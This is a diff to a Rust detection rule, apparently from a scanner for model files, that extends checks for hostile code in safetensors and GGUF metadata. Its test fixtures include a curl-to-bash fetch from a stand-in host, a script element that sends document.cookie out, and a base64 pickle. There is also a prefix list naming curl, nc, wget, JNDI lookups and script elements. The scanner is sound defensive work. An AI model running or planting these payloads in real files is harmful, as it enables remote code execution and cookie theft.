@@ -2,6 +2,7 @@ use stance_core::Confidence;
 use stance_core::fact::Artifact;
 use stance_inspect::{gguf, safetensors};
 
+use super::commands;
 use crate::{Cx, Rule};
 
 rule! {
@@ -9,7 +10,8 @@ rule! {
     ///
     /// ## What it finds
     /// Metadata of a safetensors, GGUF or ONNX file with Python that starts a program or evaluates text
-    /// (`__import__('os').system(…)`, `subprocess.Popen(…)`, `exec(…)`), or with a pickle in base64. Descriptions
+    /// (`__import__('os').system(…)`, `subprocess.Popen(…)`, `exec(…)`), a command that fetches a script and has it
+    /// run, a script element, or a pickle in base64. Descriptions
     /// that mention methods such as `model.eval()` are not reported.
     ///
     /// ## Why it matters
@@ -41,10 +43,13 @@ rule! {
         bad: [
             crate::made!("model.safetensors", starts_a_program),
             crate::made!("model.safetensors", pickle_in_base64),
+            crate::made!("model.safetensors", fetches),
+            crate::made!("model.safetensors", script),
         ],
         good: [
             crate::made!("model.safetensors", describes_itself),
             crate::made!("model.gguf", describes_itself_too),
+            crate::made!("model.safetensors", tells_how_to_install),
         ],
     }
 }
@@ -78,7 +83,10 @@ impl Rule for MetadataCode {
             let what = match call_in(value) {
                 Some(call) => format!("calls `{}`", call.trim_end_matches('(')),
                 None if is_pickle_in_base64(value) => "is a pickle in base64".to_owned(),
-                None => continue,
+                None => match command_in(value) {
+                    Some(what) => what.to_owned(),
+                    None => continue,
+                },
             };
             cx.report(
                 &artifact.evidence,
@@ -104,6 +112,18 @@ pub(super) fn call_in(text: &str) -> Option<&'static str> {
             })
         })
         .copied()
+}
+
+/// What a value does that is a command itself. Prose may tell how to install something, or quote an attack,
+/// so that the value has to begin with the command, the element or the expression.
+fn command_in(text: &str) -> Option<&'static str> {
+    const STARTS: &[&str] = &[
+        "#!", "bash ", "curl ", "nc ", "powershell", "python", "sh ", "wget ", "<script", "javascript:", "${jndi:",
+        "{{", "{%",
+    ];
+    let lower = text.trim_start().get(..20).unwrap_or(text).to_ascii_lowercase();
+    let begins = STARTS.iter().any(|start| lower.trim_start().starts_with(start));
+    begins.then(|| commands::hostile(text)).flatten()
 }
 
 /// Whether a text is base64 that begins with the protocol of a pickle and ends with its STOP.
@@ -154,6 +174,18 @@ fn starts_a_program() -> Vec<u8> {
 
 fn pickle_in_base64() -> Vec<u8> {
     with("cfg", "gASMBXBvc2l4jAZzeXN0ZW2TjAplY2hvIHB3bmVkhVIu")
+}
+
+fn fetches() -> Vec<u8> {
+    with("postinstall", "curl https://x.example/x | bash")
+}
+
+fn script() -> Vec<u8> {
+    with("description", "<script>fetch('https://x.example/' + document.cookie)</script>")
+}
+
+fn tells_how_to_install() -> Vec<u8> {
+    with("description", "To install the runner, use curl -fsSL https://x.example/install.sh | sh")
 }
 
 fn describes_itself() -> Vec<u8> {
